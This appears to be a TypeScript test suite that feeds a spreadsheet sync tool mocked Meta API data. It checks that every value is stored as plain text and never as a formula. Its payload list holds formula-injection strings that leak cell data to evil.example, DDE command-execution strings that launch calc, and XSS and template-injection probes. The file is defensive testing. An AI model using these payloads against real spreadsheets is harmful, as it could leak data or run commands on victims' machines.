// Checks from outside that no text of Meta's becomes anything but text in a cell.
import { type JudgeGraph, startJudgeGraph } from './graph-server';
import { startWorkbench, type Workbench } from './workbench';
import { buildWorld, type World } from './world';

const TOKEN = 'EAAJudgeToken0123456789abcdefXYZ';
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMAGE("https://evil.example/x.png")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '+55 11 99999-0000',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@sum',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '  leading',
  'trailing  ',
  "'=1+1",
  "''=1+1",
  "'",
  "''",
  '"',
  '"=1+1"',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '{=1+1}',
  '%0A=1+1',
  ';=1+1',
  ',=1+1',
  '|calc',
  '==1',
  '=',
  '+',
  '-',
  '@',
  '#REF!',
  '#N/A',
  '#ERROR!',
  'TRUE',
  'FALSE',
  'VERDADEIRO',
  '007',
  '1/2',
  '12:30',
  '2026-11-01',
  '01/11/2026',
  '1E5',
  '50%',
  'R$ 3',
  '1.234,56',
  '(5)',
  '12345678901234567890',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: meant as text
  '${7*7}',
  '{{7*7}}',
  'a\u0000b',
  'half \ud83d pair',
  '🎉 ção 日本語 עברית',
];
/** What a cell cannot hold is taken out or replaced; everything else comes back as it was. */
const stored = (text: string): string =>
  text.replaceAll('\u0000', '').replace(/[\ud800-\udfff]/gu, '\ufffd');

describe.each(['en_US', 'pt_BR'])('in %s', (locale) => {
  let world: World;
  let graph: JudgeGraph;
  let bench: Workbench;
  beforeAll(async () => {
    world = buildWorld({
      seed: 77,
      now: '2026-11-22T15:00:00Z',
      zones: PAYLOADS.map(() => 'America/Sao_Paulo' as const),
      templates: 1,
      days: 2,
      density: 1,
      plainNames: true,
    });
    const payload = (n: number): string => PAYLOADS[n % PAYLOADS.length] ?? '';
    world.accounts.forEach((account, i) => {
      Object.assign(account, { name: payload(i), currency: payload(i + 11), seenBy: 'assigned' });
      account.templates.splice(1);
      for (const template of account.templates) {
        Object.assign(template, {
          name: payload(i + 23),
          language: payload(i + 37),
          category: payload(i + 51),
          status: payload(i + 5),
          content: {
            text: payload(i + 17),
            buttons: [{ type: payload(i + 29), text: payload(i + 43) }],
            quality: payload(i + 59),
            carousel: false,
          },
        });
        for (const point of template.points.values()) {
          const clicked = [{ type: 'url_button', button_content: payload(i + 43), count: 3 }];
          Object.assign(point, { sent: 5, delivered: 4, clicked });
        }
      }
    });
    graph = await startJudgeGraph(world, { token: TOKEN });
    bench = await startWorkbench(graph.url, ['--locale', locale]);
    await bench.setClock(world.now);
    await bench.rpc('connect', { token: TOKEN });
    const ids = world.accounts.map(({ id }) => id);
    for (let at = 0; at < ids.length; at += 45) {
      const chosen = await bench.rpc('chooseAccounts', { ids: ids.slice(at, at + 45) });
      if (!chosen.ok) throw new Error(chosen.error.message);
      await bench.sync({ from: '2026-11-21', to: '2026-11-22', templates: 'all' });
    }
  }, 60_000);
  afterAll(async () => {
    await bench?.stop();
    await graph?.close();
  });

  test('every text reads back as it came, as text, and no cell of any tab is a formula', async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
    const daily = await bench.range('WA Daily');
    const seen = [new Set<string>(), new Set<string>(), new Set<string>(), new Set<string>()];
    for (const line of daily.values.slice(1)) {
      const account = world.accounts.find(({ id }) => id === line[4]);
      const template = account?.templates[0];
      expect([line[3], line[5], line[7], line[8]].map((cell) => typeof cell)).toEqual(
        Array(4).fill('string'),
      );
      expect([line[3], line[5], line[7], line[8], line[6]]).toEqual(
        [account?.name, template?.name, template?.language, template?.category, template?.id].map(
          (text) => stored(String(text)),
        ),
      );
      [line[3], line[5], line[7], line[8]].forEach((cell, i) => {
        seen[i]?.add(String(cell));
      });
      // A currency that is none may be left out, never be anything but text.
      expect(['', stored(String(account?.currency))]).toContain(line[10]);
    }
    for (const texts of seen) expect(texts.size).toBe(new Set(PAYLOADS.map(stored)).size);
    for (const [tab, { formulas, errors }] of await bench.dump()) {
      expect([tab, formulas.flat().filter((text) => text !== '')]).toEqual([tab, []]);
      expect([tab, errors.flat().filter((text) => text !== '')]).toEqual([tab, []]);
    }
  }, 20_000);

  test('labels, texts, states and qualities read back as they came', async () => {
    const buttons = await bench.range('WA Buttons');
    const labels = new Set<unknown>();
    for (const line of buttons.values.slice(1)) {
      const at = world.accounts.findIndex(({ id }) => id === line[4]);
      const [button] = world.accounts[at]?.templates[0]?.content?.buttons ?? [];
      expect(line[11]).toBe(stored(button?.text ?? ''));
      labels.add(line[11]);
    }
    expect(labels.size).toBe(new Set(PAYLOADS.map(stored)).size);
    // The comparison holds the accounts of the last sync; its headers are in the sheet's language.
    const { values } = await bench.range('WA Templates');
    const shown = new Set(values.slice(1).flat());
    const last = world.accounts.slice(45).map(({ templates }) => templates[0]);
    expect(last.length).toBeGreaterThan(15);
    for (const template of last) {
      for (const text of [template?.status, template?.content?.text, template?.name]) {
        expect([text, shown.has(stored(String(text)))]).toEqual([text, true]);
      }
    }
  }, 20_000);

  test('a second sync finds them as they are', async () => {
    const { counts } = await bench.sync({
      from: '2026-11-21',
      to: '2026-11-22',
      templates: 'all',
    });
    expect(counts).toMatchObject({ added: 0, changed: 0 });
  }, 20_000);

  test('formulas find the templates by these names or refuse in words', async () => {
    for (const account of world.accounts) {
      const [template] = account.templates;
      const byId = await bench.formula('WA_SENT', template?.id, '2026-11-21');
      expect([template?.id, byId.value]).toEqual([template?.id, 5]);
      const byName = await bench.formula('WA_SENT', stored(template?.name ?? ''), '2026-11-21');
      if (!byName.ok) expect(byName.error.message).not.toMatch(/TypeError|undefined|is not a/);
    }
  }, 20_000);
});
